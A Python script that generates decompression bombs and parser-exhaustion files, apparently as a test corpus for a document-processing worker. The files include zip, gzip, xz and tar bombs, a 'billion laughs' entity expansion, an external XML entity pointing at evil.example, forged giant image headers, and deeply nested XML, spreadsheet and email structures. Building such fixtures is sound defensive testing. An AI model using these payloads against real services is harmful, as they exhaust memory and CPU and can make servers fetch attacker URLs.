"""Small files that are huge, deep or endless to whoever reads them. bombs.py TARGET

Printed: [{name, path, kept_back}], `kept_back` being true where nothing may come out. The rest may come out as long as
the worker stays within its time and memory.
"""
import bz2, io, json, lzma, os, struct, subprocess, sys, tarfile, zipfile, zlib

rows, target = [], os.path.abspath(sys.argv[1])
MIB = 1 << 20
ZEROS = bytes(16 * MIB)


def bomb(name, end, content, kept_back=True):
    path = os.path.join(target, f"{len(rows):03}.{end}")
    with open(path, "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode())
    rows.append({"name": f"{end}: {name}", "path": path, "kept_back": kept_back})


def deflated(pieces, wbits=-15, block=ZEROS):
    """`block` so many times, made without writing it out."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    more = again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)
    return first + more * (pieces - 1) + b"\3\0"


def crc(pieces, block=ZEROS):
    value = 0
    for _ in range(pieces):
        value = zlib.crc32(block, value)
    return value


def raw_zip(members, entries=None):
    """Members (name, method, checksum, length, stored bytes); `entries` lists the directory if it is to lie."""
    out, rows_ = bytearray(), []
    for name, method, checksum, length, stored in members:
        name = name.encode()
        rows_.append((name, method, checksum, length, len(stored), len(out)))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x5C21, checksum, len(stored), length, len(name), 0)
        out += name + stored
    rows_ = entries(rows_) if entries else rows_
    directory = b"".join(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0, 0x5C21, checksum, size, length,
                                     len(name), 0, 0, 0, 0, 0, at) + name for name, method, checksum, length, size, at in rows_)
    count = min(len(rows_), 0xFFFF)
    return bytes(out) + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(out), 0)


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


# ── archives ───────────────────────────────────────────────────────────────────────────────────────────────────────

GIB = 64
flat = ("a.txt", 8, crc(GIB), GIB * 16 * MIB, deflated(GIB))
bomb("one member of 1 GiB", "zip", raw_zip([flat]))
bomb("a member of 1 GiB that says it has 10 bytes", "zip", raw_zip([("a.txt", 8, crc(1), 10, deflated(GIB))]))
bomb("60,000 names for one member", "zip", raw_zip(
    [("a.txt", 8, crc(1), 16 * MIB, deflated(1))], lambda rows: [(b"%05d.txt" % n, *rows[0][1:]) for n in range(60_000)]))
bomb("60,000 empty members", "zip", raw_zip([(f"{n}.txt", 0, 0, 0, b"") for n in range(60_000)]))
layer = raw_zip([("0.txt", 8, crc(4), 64 * MIB, deflated(4))])
for depth in range(5):
    layer = zipped([(f"{n}.zip", layer) for n in range(16)])
bomb("16 archives in each of 16, and so on", "zip", layer)
deep = zipped([("a.txt", b"x")])
for depth in range(200):
    deep = zipped([("a.zip", deep)])
bomb("200 archives in one another", "zip", deep)
bomb("16 members of 30 MiB each", "zip", raw_zip([(f"{n}.txt", 8, crc(2), 32 * MIB, deflated(2)) for n in range(16)]))
gz = deflated(GIB, 31)[:-2] + b"\3\0" + struct.pack("<II", crc(GIB), GIB * 16 * MIB)
bomb("1 GiB", "gz", gz)
squeeze = lzma.LZMACompressor(format=lzma.FORMAT_XZ, preset=0)
bomb("300 MiB", "xz", b"".join(squeeze.compress(ZEROS) for _ in range(19)) + squeeze.flush())
bomb("300 MiB", "bz2", b"".join(bz2.compress(ZEROS) for _ in range(19)))
dictionary = struct.pack("<BIq", 0x5D, 0xFFFFFFFF, -1) + bytes(64)
bomb("a dictionary of 4 GiB", "lzma", dictionary)
tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w") as archive:
    for number in range(20_000):
        archive.addfile(tarfile.TarInfo(f"{number}.txt"))
bomb("20,000 members", "tar", tar.getvalue())
head = bytearray(tarfile.TarInfo("a.txt").tobuf())
head[124:136] = b"77777777777\0"
head[148:156] = b" " * 8
head[148:156] = b"%06o\0 " % sum(head)
bomb("a member that says it has 8 GiB", "tar", bytes(head) + bytes(1024))
zeros = os.path.join(target, "zeros.txt")
with open(zeros, "wb") as file:
    for _ in range(19):
        file.write(ZEROS)
seven = os.path.join(target, "made.7z")
subprocess.run(["7zz", "a", "-mx=1", "-bd", "-bso0", seven, zeros], check=True, cwd=target)
with open(seven, "rb") as file:
    bomb("300 MiB", "7z", file.read())
os.remove(seven), os.remove(zeros)

# ── documents ──────────────────────────────────────────────────────────────────────────────────────────────────────

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
FORMAT = "application/vnd.openxmlformats-officedocument"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def package(main, kind, content, more=(), related=""):
    """`more` is (name, kind, content); `related` the rows of the main part's relationships."""
    types = "".join(f'<Override PartName="/{name}" ContentType="{FORMAT}.{kind}+xml"/>' for name, kind, _ in [(main, kind, 0), *more])
    folder, name = os.path.split(main)
    return [
        ("[Content_Types].xml", f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType='
         f'"application/vnd.openxmlformats-package.relationships+xml"/>{types}</Types>'),
        ("_rels/.rels", f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
         f'Target="{main}"/></Relationships>'),
        (main, content),
        (f"{folder}/_rels/{name}.rels", f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{related}</Relationships>'),
        *[(name, content) for name, _, content in more],
    ]


def word(body, head=HEAD, more=(), related=""):
    document = f'{head}<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'
    return zipped(package("word/document.xml", "wordprocessingml.document.main", document, more, related))


def sheet(rows_, more=(), related="", before=""):
    return zipped(package(
        "xl/workbook.xml", "spreadsheetml.sheet.main",
        f'{HEAD}<workbook xmlns="{X}" xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="s1"/></sheets></workbook>',
        [("xl/worksheets/sheet1.xml", "spreadsheetml.worksheet",
          f'{HEAD}<worksheet xmlns="{X}"><sheetData>{rows_}</sheetData>{before}</worksheet>'), *more],
        f'<Relationship Id="s1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>{related}'))


P = "<w:p><w:r><w:t>x</w:t></w:r></w:p>"
laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(12)) + "]>"
bomb("a billion laughs", "docx", word("<w:p><w:r><w:t>&m;</w:t></w:r></w:p>", HEAD + laughs))
bomb("an entity on another site", "docx", word("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>",
                                               HEAD + '<!DOCTYPE x [<!ENTITY a SYSTEM "https://evil.example/x">]>'))
bomb("one long entity, many times", "docx", word("<w:p><w:r><w:t>" + "&a;" * 50_000 + "</w:t></w:r></w:p>",
                                                 HEAD + f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>'))
bomb("100,000 elements in one another", "docx", word("<w:p>" * 100_000 + "</w:p>" * 100_000))
bomb("5,000 tables in one another", "docx", word("<w:tbl><w:tr><w:tc>" * 5_000 + P + "</w:tc></w:tr></w:tbl>" * 5_000))
bomb("100,000 attributes", "docx", word("<w:p " + "".join(f'w:a{n}="1" ' for n in range(100_000)) + "/>"))
bomb("100,000 namespaces", "docx", word("<w:p " + "".join(f'xmlns:a{n}="urn:{n}" ' for n in range(100_000)) + "/>"))
bomb("namespaces at every step", "docx", word("".join(f'<a:b xmlns:a="urn:{n}">' for n in range(250)) + "</a:b>" * 250), False)
bomb("an attribute of 40 MB", "docx", word(f'<w:p w:rsidR="{"x" * 40_000_000}"/>'), False)
bomb("a text of 90 MB", "docx", word(f'<w:p><w:r><w:t>{"あ" * 30_000_000}</w:t></w:r></w:p>'), False)
bomb("a million paragraphs", "docx", word(P * 1_000_000), False)
bomb("20,000 fields in one another", "docx", word(
    "<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>' * 20_000 + "</w:p>"), False)
bomb("a part of 1 GiB", "docx", raw_zip(
    [(name, 0, zlib.crc32(text.encode()), len(text.encode()), text.encode())
     for name, text in package("word/document.xml", "wordprocessingml.document.main", "")[:2]]
    + [("word/document.xml", 8, crc(GIB), GIB * 16 * MIB, deflated(GIB))]))
bomb("300,000 relationships", "docx", word(P, related="".join(
    f'<Relationship Id="a{n}" Type="{OFFICE}/image" Target="a{n}.png"/>' for n in range(300_000))))
bomb("9,000 footers", "docx", word(
    P, more=[(f"word/footer{n}.xml", "wordprocessingml.footer", f'<w:ftr xmlns:w="{W}"/>') for n in range(9_000)],
    related="".join(f'<Relationship Id="a{n}" Type="{OFFICE}/footer" Target="footer{n}.xml"/>' for n in range(9_000))), False)
bomb("parts that lead to one another", "docx", zipped(package(
    "word/document.xml", "wordprocessingml.document.main", f'<w:document xmlns:w="{W}"><w:body>{P}</w:body></w:document>',
    related=f'<Relationship Id="a" Type="{OFFICE}/footnotes" Target="document.xml"/>')), False)

bomb("a million cells", "xlsx", sheet("".join(
    "<row>" + "".join(f"<c><v>{(row * 100 + cell) * 2654435761 % 4294967296}</v></c>" for cell in range(100)) + "</row>"
    for row in range(10_000))), False)
bomb("a million rows", "xlsx", sheet("".join(f'<row r="{n}"/>' for n in range(1, 1_000_001))), False)
words = "".join(f"<si><t>{n}</t></si>" for n in range(1_000_001))
bomb("a million shared texts", "xlsx", sheet("", [(
    "xl/sharedStrings.xml", "spreadsheetml.sharedStrings", f'{HEAD}<sst xmlns="{X}">{words}</sst>')],
    f'<Relationship Id="s2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'), False)
shared = "<si><t>" + "あ" * 30_000 + "</t></si>"
bomb("a long text in 500,000 cells", "xlsx", sheet("".join(
    "<row>" + '<c t="s"><v>0</v></c>' * 50 + "</row>" for _ in range(10_000)), [(
    "xl/sharedStrings.xml", "spreadsheetml.sharedStrings", f'{HEAD}<sst xmlns="{X}">{shared}</sst>')],
    f'<Relationship Id="s2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'), False)
bomb("formulas of 8,000 brackets", "xlsx", sheet(
    "".join(f"<row><c><f>{'(' * 4_000}1{')' * 4_000}</f><v>1</v></c></row>" for _ in range(2_000))), False)
bomb("formulas of 8,000 functions", "xlsx", sheet(
    "".join(f"<row><c><f>{'IF(1,' * 4_000}1{')' * 4_000}</f><v>1</v></c></row>" for _ in range(500))), False)
bomb("300,000 merged cells", "xlsx", sheet("", before="<mergeCells>" + "".join(
    f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 300_001)) + "</mergeCells>"), False)

# ── pictures ───────────────────────────────────────────────────────────────────────────────────────────────────────


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, depth, colour, data, more=b""):
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)) + more
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def streamed(pieces):
    """A zlib stream of zeros; its checksum is that of nothing, which readers of pictures seldom ask for."""
    return b"\x78\xda" + deflated(pieces) + b"\0\0\0\1"


bomb("2,147,483,647 pixels a side", "png", png(0x7FFFFFFF, 0x7FFFFFFF, 8, 6, zlib.compress(bytes(64))))
bomb("30,000 pixels a side, grey", "png", png(30_000, 30_000, 8, 0, streamed(54)))
bomb("30,000 pixels a side, black and white", "png", png(30_000, 30_000, 1, 0, streamed(7)))
bomb("9,000 pixels a side, in colour", "png", png(9_000, 9_000, 8, 6, streamed(20)), False)
bomb("words of 1 GiB", "png", png(1, 1, 8, 0, zlib.compress(bytes(2)), chunk(b"zTXt", b"a\0\0" + streamed(GIB))), False)
bomb("a profile of 1 GiB", "png", png(1, 1, 8, 0, zlib.compress(bytes(2)), chunk(b"iCCP", b"a\0\0" + streamed(GIB))), False)
bomb("200,000 chunks", "png", png(1, 1, 8, 0, zlib.compress(bytes(2)), chunk(b"tEXt", b"a\0b") * 200_000), False)
bomb("65,535 pixels a side", "gif", b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0) + b"\x2c"
     + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\2\2\x44\1\0;")
bomb("100,000 frames", "gif", b"GIF89a" + struct.pack("<HHBBB", 100, 100, 0x80, 0, 0) + bytes(6)
     + (b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2\x44\1\0") * 100_000 + b";", False)


def tiff(width, height, pages, loop=False):
    out, at = bytearray(b"II*\0" + struct.pack("<I", 8)), 8
    for page in range(pages):
        tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8),
                (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, width * height & 0xFFFFFFFF)]
        at += 2 + len(tags) * 12 + 4
        last = page + 1 == pages
        after = 8 if last and loop else 0 if last else at
        out += struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *tag) for tag in tags) + struct.pack("<I", after)
    return bytes(out)


bomb("2,000,000,000 pixels a side", "tif", tiff(2_000_000_000, 2_000_000_000, 1))
bomb("30,000 pixels a side", "tif", tiff(30_000, 30_000, 1))
bomb("100,000 pages", "tif", tiff(1, 1, 100_000))
bomb("pages that lead to the first", "tif", tiff(1, 1, 3, True))
bomb("16,383 pixels a side", "webp", b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8L" + struct.pack("<I", 17) + b"\x2f"
     + struct.pack("<I", 16382 | 16382 << 14) + bytes(13))
bomb("2,147,483,647 pixels a side", "bmp", b"BM" + struct.pack("<IHHI", 54, 0, 0, 54)
     + struct.pack("<IiiHHIIiiII", 40, 0x7FFFFFFF, 0x7FFFFFFF, 1, 24, 0, 0, 0, 0, 0, 0))
bomb("60,000 pixels a side, in runs", "bmp", b"BM" + struct.pack("<IHHI", 1100, 0, 0, 54 + 1024)
     + struct.pack("<IiiHHIIiiII", 40, 60_000, 60_000, 1, 8, 1, 0, 0, 0, 256, 0) + bytes(1024) + b"\xff\0" * 100)
jpeg = (b"\xff\xd8\xff\xdb\0\x43\0" + bytes([1] * 64) + b"\xff\xc0\0\x0b\x08" + struct.pack(">HH", 65500, 65500) + b"\1\1\x11\0"
        + b"\xff\xc4\0\x14\0" + b"\1" + bytes(15) + b"\0" + b"\xff\xc4\0\x14\x10" + b"\1" + bytes(15) + b"\0"
        + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(100) + b"\xff\xd9")
bomb("65,500 pixels a side", "jpg", jpeg)

# ── texts ──────────────────────────────────────────────────────────────────────────────────────────────────────────

bomb("one line of 40 MB", "txt", "x" * 40_000_000, False)
bomb("20 million cells", "csv", ("," * 999 + "\r\n") * 20_000, False)
bomb("a quote that never ends", "csv", '"' + "a,\r\n" * 5_000_000, False)
bomb("100,000 appointments", "ics", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\n"
     + "BEGIN:VEVENT\r\nUID:a\r\nDTSTAMP:20260101T000000Z\r\nEND:VEVENT\r\n" * 100_000 + "END:VCALENDAR\r\n", False)
bomb("100,000 cards", "vcf", "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:x\r\nEND:VCARD\r\n" * 100_000, False)

# ── mails ──────────────────────────────────────────────────────────────────────────────────────────────────────────

MAIL = "From: a@example.jp\r\nTo: b@example.lg.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
HTML = MAIL + "Content-Type: text/html; charset=utf-8\r\n\r\n"
bomb("200,000 boxes in one another", "eml", HTML + "<div>" * 200_000 + "x", False)
bomb("50,000 attributes", "eml", HTML + "<p " + " ".join(f"a{n}=b" for n in range(50_000)) + ">x", False)
bomb("300 tables in one another", "eml", HTML + "<table><tr><td>" * 300 + "x", False)
bomb("a table of 300 by 300", "eml", HTML + "<table>" + ("<tr>" + "<td>x" * 300) * 300, False)
bomb("1,000 quotations in one another", "eml", HTML + "<blockquote>" * 1_000 + "x", False)
bomb("50,000 levels", "eml", MAIL + "".join(
    f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(50_000)) + "\r\nx", False)
bomb("a million parts", "eml", MAIL + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\n" * 1_000_000 + "--b--\r\n", False)
bomb("100,000 headers", "eml", "X: y\r\n" * 100_000 + MAIL + "\r\nx", False)
bomb("20,000 pieces of a name", "eml", MAIL + "Content-Type: text/plain; " + "; ".join(
    f"name*{n}=x" for n in range(20_000)) + "\r\n\r\nx", False)

json.dump(rows, sys.stdout)
